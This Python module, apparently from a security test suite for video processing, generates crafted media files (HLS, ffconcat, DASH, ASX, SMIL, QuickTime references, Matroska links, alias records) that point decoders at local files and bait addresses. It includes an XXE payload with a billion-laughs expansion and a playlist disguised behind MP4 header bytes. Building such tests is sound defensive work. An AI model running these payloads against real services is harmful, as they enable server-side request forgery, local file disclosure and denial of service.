"""Files that name other files or addresses: lists under the name of a video, and videos whose pictures lie elsewhere."""

from collections.abc import Callable
from typing import TYPE_CHECKING

from case.bytes_of import box, edit, element, full, number, replaced

if TYPE_CHECKING:
    from case.crafted import Bait, Content

DINF = ("moov", "trak", "mdia", "minf", "dinf")


def playlist(bait: "Bait", film: bytes) -> bytes:
    head = "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n"
    key = f'#EXT-X-KEY:METHOD=AES-128,URI="{bait.address}key"\n'
    return f"{head}{key}#EXTINF:10,\nfile://{bait.file}\n#EXTINF:10,\n{bait.address}x.ts\n#EXT-X-ENDLIST\n".encode()


def concat_script(bait: "Bait", film: bytes) -> bytes:
    return f"ffconcat version 1.0\nfile '{bait.file}'\nfile '{bait.address}x.mp4'\n".encode()


def session(bait: "Bait", film: bytes) -> bytes:
    return b"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"


def dash(bait: "Bait", film: bytes) -> bytes:
    adaptation = '<AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1" codecs="avc1.42e01e">'
    urls = f"<BaseURL>{bait.address}x.mp4</BaseURL><BaseURL>file://{bait.file}</BaseURL>"
    mpd = '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S"><Period>'
    return f'<?xml version="1.0"?>{mpd}{adaptation}{urls}</Representation></AdaptationSet></Period></MPD>'.encode()


def asx(bait: "Bait", film: bytes) -> bytes:
    return f'<ASX version="3.0"><Entry><Ref href="{bait.address}x.wmv"/><Ref href="file://{bait.file}"/></Entry></ASX>'.encode()


def references(bait: "Bait", film: bytes) -> bytes:
    return f"[Reference]\r\nRef1={bait.address}x.wmv\r\nRef2=file://{bait.file}\r\n".encode()


def smil(bait: "Bait", film: bytes) -> bytes:
    return f'<smil><body><video src="{bait.address}x.mp4"/><video src="file://{bait.file}"/></body></smil>'.encode()


def reference_movie(bait: "Bait", film: bytes) -> bytes:
    """QuickTime's own list: a movie that holds nothing but addresses."""
    url = f"file://{bait.file}\0".encode()
    entries = [
        box("rmda", full("rdrf", b"url ", number(len(to)), to)) for to in (url, f"{bait.address}x.mov\0".encode())
    ]
    return box("ftyp", b"qt  \0\0\0\0qt  ") + box("moov", box("rmra", *entries))


def _elsewhere(entry: Callable[["Bait"], bytes]) -> "Content":
    """A real film whose table of data references says that its pictures lie in another file."""

    def make(bait: "Bait", film: bytes) -> bytes:
        return edit(film, DINF, lambda _: box("dinf", full("dref", number(1), entry(bait))))

    return make


def _url(bait: "Bait") -> bytes:
    return full("url ", f"file://{bait.file}\0".encode())


def _address(bait: "Bait") -> bytes:
    return full("url ", f"{bait.address}x.mp4\0".encode())


def _name(bait: "Bait") -> bytes:
    return full("urn ", b"x\0", f"file://{bait.file}\0".encode())


def _alias(bait: "Bait") -> bytes:
    """A Macintosh alias record, which the decoder's library can follow by its path."""
    path = str(bait.file).encode()
    record = bytearray(150)
    record[4:6] = number(150, 2)
    record[6:8] = number(2, 2)
    record[50:51] = bytes([min(63, len(bait.file.name))])
    record[51 : 51 + min(63, len(bait.file.name))] = bait.file.name.encode()[:63]
    tail = number(2, 2) + number(len(path), 2) + path + b"\0" * (len(path) % 2)
    tail += number(18, 2) + number(len(path), 2) + path + b"\0" * (len(path) % 2) + b"\xff\xff\0\0"
    return full("alis", bytes(record), tail)


def linked_segments(bait: "Bait", film: bytes) -> bytes:
    """Matroska that says that it goes on in other files."""
    name = str(bait.file).encode()
    info = element(
        0x1549A966,
        element(0x73A4, bytes(range(16))),
        element(0x3CB923, b"\1" * 16),
        element(0x3C83AB, name),
        element(0x3EB923, b"\2" * 16),
        element(0x3E83BB, bait.address.encode()),
    )
    return element(0x1A45DFA3, element(0x4282, b"matroska")) + element(0x18538067, info)


def entity(bait: "Bait", film: bytes) -> bytes:
    """A real film whose XMP note asks the reader of XML to fetch a file and an address."""
    doctype = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{bait.file}"><!ENTITY b SYSTEM "{bait.address}e">]>'
    laughs = "".join(f'<!ENTITY l{k} "{f"&l{k - 1};" * 10}">' for k in range(1, 10))
    text = f'<?xml version="1.0"?>{doctype[:-2]}<!ENTITY l0 "lol">{laughs}]><x:xmpmeta xmlns:x="adobe:ns:meta/">&a;&b;&l9;</x:xmpmeta>'
    return film + box("uuid", bytes.fromhex("be7acfcb97a942e89c71999491e3afac"), text.encode())


def behind_a_film(bait: "Bait", film: bytes) -> bytes:
    """A list whose first bytes are those of a film: no recognition by the first bytes alone."""
    return box("ftyp", b"isom\0\0\0\0isom") + box("free", playlist(bait, film)) + playlist(bait, film)


LISTS: dict[str, "Content"] = {
    "playlist.mp4": playlist,
    "playlist.ts": playlist,
    "script.mp4": concat_script,
    "script.mkv": concat_script,
    "session.mp4": session,
    "dash.mp4": dash,
    "asx.wmv": asx,
    "references.asf": references,
    "smil.mov": smil,
    "reference-movie.mov": reference_movie,
    "elsewhere-url.mov": _elsewhere(_url),
    "elsewhere-address.mp4": _elsewhere(_address),
    "elsewhere-name.mp4": _elsewhere(_name),
    "elsewhere-alias.mov": _elsewhere(_alias),
    "linked.mkv": linked_segments,
    "entity.mp4": entity,
    "list-behind-a-head.mp4": behind_a_film,
    "data-reference-gone.mp4": lambda _, film: replaced(film, DINF),
}
